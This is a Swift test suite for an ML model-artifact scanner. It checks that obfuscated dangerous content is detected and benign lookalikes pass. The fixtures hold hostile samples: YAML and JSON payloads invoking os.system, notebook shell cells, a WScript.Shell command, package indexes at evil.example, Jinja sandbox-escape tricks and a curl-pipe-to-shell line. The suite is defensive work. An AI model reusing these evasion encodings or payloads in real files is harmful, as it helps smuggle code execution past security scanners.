import ArtifactScan
import Testing

/// Ways of writing a thing so that a search for it misses it, and honest neighbours that must stay clean.
@Suite struct EvasionTests {
    /// A text, and the rule that must see through it.
    struct Case: CustomTestStringConvertible {
        let name: String
        let rule: String
        let text: String
        var testDescription: String { "\(name): \(text.prefix(60))" }
    }

    private static let texts: [Case] = [
        Case(name: "a.yaml", rule: "text.yaml-object", text: "a: !!%70ython/object/apply:os.system [x]\n"),
        Case(
            name: "a.yaml", rule: "text.yaml-object",
            text: "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object:o.s\n"),
        Case(
            name: "a.yaml", rule: "text.yaml-object",
            text: "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "model: {_target_: os.system, _args_: [x]}\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "m:\n  \"_targ\\x65t_\": \"os.syst\\x65m\"\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "m:\n  ? _target_\n  : os.system\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "m:\n  _target_: >-\n    os.system\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "a: &x os.system\nm:\n  _target_: *x\n"),
        Case(name: "a.yaml", rule: "text.import-target", text: "m:\n  _target_: !!str os.system\n"),
        Case(
            name: "a.yaml", rule: "keras.code",
            text: "class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n"),
        Case(
            name: "MLmodel", rule: "repository.code", text: "flavors:\n  p:\n    model_code_path: m.py\n"),
        Case(
            name: "requirements.txt", rule: "repository.foreign-index", text: "evil @ https://evil.example/e.tar.gz\n"),
        Case(name: "requirements.txt", rule: "repository.foreign-index", text: "-i https://evil.example/simple\n"),
        Case(name: "conda.yaml", rule: "repository.foreign-index", text: "channels:\n- http://evil.example/conda\n"),
        Case(name: "a.json", rule: "text.import-target", text: #"{"py/reduce":[{"py/function":"os.system"}]}"#),
        Case(name: "a.json", rule: "text.import-target", text: #"{"expr_str":"__import__('os').system('x')"}"#),
        Case(name: ".zarray", rule: "text.import-target", text: #"{"filters":[{"id":"pickle","protocol":4}]}"#),
        Case(name: "config.json", rule: "container.member-name", text: #"{"transformers_weights":"../../x.bin"}"#),
        Case(
            name: "a.ipynb", rule: "repository.script",
            text: #"{"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":["!id"]}]}]}"#),
        Case(name: "config.json", rule: "repository.remote-code", text: #"{"trust_remote_code":"yes"}"#),
        Case(
            name: "a.json", rule: "graph.custom-operator", text: #"{"session_options":{"custom_ops_library":"a.so"}}"#),
        Case(
            name: "a.xml", rule: "graph.custom-operator",
            text: "<net name=\"a\"><layers><layer type=\"X\" version=\"extension\"/></layers></net>"),
        Case(name: "a.py", rule: "repository.code", text: "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')\n"),
        Case(
            name: "a.ipynb", rule: "repository.script",
            text: #"{"nbformat":4,"cells":[{"cell_type":"code","source":[" !id\n"]}]}"#),
        Case(
            name: "a.ipynb", rule: "repository.script",
            text: #"{"nbformat":4,"cells":[{"cell_type":"code","source":["%system id"]}]}"#),
        Case(
            name: "a.pbtxt", rule: "tensorflow.operator", text: "graph_def {\n node { name: \"a\" op: \"PyFunc\" }\n}\n"
        ),
        Case(
            name: "a.pmml", rule: "text.xml-entity",
            text: "<?xml version=\"1.0\"?><!DOCTYPE P SYSTEM \"http://e/x.dtd\"><PMML/>"),
        Case(name: "start.vbs", rule: "repository.script", text: "CreateObject(\"WScript.Shell\").Run \"calc\"\n"),
    ]

    @Test(arguments: texts) func `a text is seen through however it is written`(_ example: Case) {
        let bytes = Array(example.text.utf8)
        #expect(scan(bytes, path: example.name).rules.contains(example.rule))
        let wide = [0xff, 0xfe] + example.text.utf16.flatMap(\.littleEndianBytes)
        #expect(scan(wide, path: example.name).rules.contains(example.rule), "in UTF-16")
    }

    @Test(arguments: [
        ("a.yaml", "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  note: \"!important, 100%\"\n"),
        ("requirements.txt", "numpy==1.26\nscikit-learn # see https://scikit-learn.org\n"),
        (
            "conda.yaml",
            "channels:\n- conda-forge\n- https://conda.anaconda.org/pytorch\ndependencies:\n- pip:\n  - torch\n"
        ),
        ("a.json", #"{"expr_str":"2*s0 + Max(1, s1)","id":"gzip"}"#),
        ("a.ipynb", #"{"nbformat":4,"cells":[{"cell_type":"code","source":["%matplotlib inline\n","x != 3"]}]}"#),
        ("a.pbtxt", "graph_def {\n node { name: \"a\" op: \"MatMul\" }\n}\n"),
        ("a.html", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/x.dtd\"><html></html>"),
        ("README.md", "# A model\n\nRun `pip install x`, then\n```bash\ncurl https://x.example | sh\n```\n"),
    ])
    func `honest neighbours stay clean`(name: String, text: String) {
        let report = scan(Array(text.utf8), path: name)
        #expect(report.verdict == .clean, "\(report.findings)")
    }

    private static func template(_ text: String) -> FileReport {
        scan(Array("{%- for m in messages -%}\(text){%- endfor -%}".utf8), path: "chat_template.jinja")
    }

    @Test(arguments: [
        "{% set a='__' %}{{ x[a~b~a] }}", "{{ x[['__cla','ss__']|join] }}", "{{ x['%c%cclass'|format(95,95)] }}",
        "{{ [x]|map('attr','_'~'_class__')|list }}", "{{ x['_'*2+'class'] }}", "{{ x['\\u005f\\u005fclass'] }}",
        "{{ x['_'['_'|length*0]~'_cl'~'ass_'] }}", "{{ x['ssalc'|reverse] }}",
    ])
    func `a template that puts names together is at least suspicious`(_ text: String) {
        #expect(Self.template(text).rules.contains("template.sandbox-escape"))
    }

    @Test(arguments: [
        "{{ m['role'] + '\\n' + m['content'] | trim }}", "{{ m.content.split('</think>')[-1].lstrip('\\n') }}",
        "{{ tools | tojson(indent=4) }}", "{{ messages[loop.index0 - 1]['role'] }}",
        "{% set n = namespace(a=[], b='_') %}{{ n.a | join('_') }}",
        "{{ messages[1:] }}{{ messages[messages|length - 1] }}",
    ])
    func `a template that does its work is clean`(_ text: String) {
        #expect(Self.template(text).verdict == .clean, "\(Self.template(text).findings)")
    }

    private static func npy(_ type: String) -> [UInt8] {
        let header = Array("{'descr': \(type), 'fortran_order': False, 'shape': (1,), }\n".utf8)
        let magic: [UInt8] = [0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1, 0]
        return joined(magic, UInt16(header.count).littleEndianBytes, header, PickleStream.shell)
    }

    @Test(arguments: [#"'|\x4f'"#, #"'|\117'"#, "'|' 'O'", "[('a', [('b', 'O')])]", "b'|O'"])
    func `an array of objects is one however its type is written`(_ type: String) {
        #expect(scan(Self.npy(type)).verdict == .malicious)
    }

    @Test func `pickles that sound harmful, take memory or read files are named`() {
        func call(_ module: String, _ name: String, _ argument: String) -> FileReport {
            scan(PickleStream().global(module, name).text(argument).call.stopped)
        }
        #expect(call("my_tools", "run_command", "ls").verdict == .malicious)
        #expect(call("my_tools", "rebuild_model", "ls").verdict == .suspicious)
        #expect(call("my_tools", "retrieval", "ls").verdict == .suspicious)
        let bomb = PickleStream().global("builtins", "bytearray").raw([0x8a, 6, 0, 0, 0, 0, 0, 1]).call.stopped
        #expect(scan(bomb).rules.contains("pickle.expansion"))
        let wrapper = PickleStream().global("joblib.numpy_pickle", "NDArrayWrapper").raw([0x29, 0x81, 0x7d, 0x28])
            .text("filename").text("/etc/x.npy").raw("ub").stopped
        #expect(scan(wrapper).verdict == .suspicious)
    }

    @Test func `a token is found behind a setting of its name, and with letters alone`() {
        let token = "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQaWsEdRf"
        #expect(scan(Array(#"{"hf_token":"\#(token)"}"#.utf8)).rules.contains("repository.secret"))
        let words = #"{"hf_model_identifier_of_the_base_model_we_used":"hf_transformers_are_good_for_us"}"#
        #expect(scan(Array(words.utf8)).verdict == .clean)
    }

    @Test func `an Arrow column whose type is a pickle is scanned as one`() {
        let type = joined(Array("arrow.py_extension_type\0".utf8), PickleStream.shell, [0, 0])
        let report = scan(joined(Array("ARROW1\0\0".utf8), type, Array("ARROW1".utf8)))
        #expect(report.verdict == .malicious)
        #expect(report.rules.contains("arrow.pickled-type"))
        #expect(scan(joined(Array("PAR1".utf8), [0, 1, 2, 3, 4, 5], Array("PAR1".utf8))).verdict == .clean)
    }

    @Test func `bytecode and code in a torch package are at least suspicious`() {
        let bytecode = joined([0xa7, 0x0d, 0x0d, 0x0a], [UInt8](repeating: 0, count: 12), [0xe3, 0, 0])
        #expect(scan(bytecode).verdict == .suspicious)
        let package = ZipArchive(members: [
            ZipArchive.Member(name: "p/.data/extern_modules", bytes: Array("math\n".utf8)),
            ZipArchive.Member(name: "p/model/model.pkl", bytes: PickleStream().raw("}").stopped),
            ZipArchive.Member(name: "p/part.py", bytes: Array("import math\n".utf8)),
        ])
        #expect(scan(package.bytes).format == "torch-package")
        #expect(scan(package.bytes).verdict == .suspicious)
    }

    @Test func `steps are counted, and a file that takes too many is not judged`() {
        var configuration = ScanConfiguration()
        configuration.limits.steps = 4_096
        let scanner = ArtifactScanner(configuration: configuration)
        let long = PickleStream().repeated([0x4e, 0x30], 4_000).raw("N").stopped
        #expect(scanner.scan(MemoryReader(long), path: "a").verdict == .unscannable)
        #expect(scan(long).verdict == .clean)
        let many = ZipArchive(members: (0..<5_000).map { ZipArchive.Member(name: "\($0)", bytes: [0x41]) })
        #expect(scanner.scan(MemoryReader(many.bytes), path: "a").rules.contains("scan.limit"))
    }
}
